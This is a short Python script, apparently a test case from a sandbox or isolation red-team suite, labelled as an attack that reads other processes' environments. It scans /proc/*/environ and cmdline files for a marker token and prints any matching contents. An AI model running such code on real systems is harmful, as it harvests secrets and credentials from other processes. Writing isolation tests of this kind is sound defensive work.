# attack: read the environment of other processes
# outside: succeeds
import glob, sys
print("tried", flush=True)
found = False
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"FETTLE_RED_TEAM_TOKEN=" in text and not path.startswith("/proc/self"):
        sys.stdout.buffer.write(text)
        found = True
sys.exit(0 if found else 1)
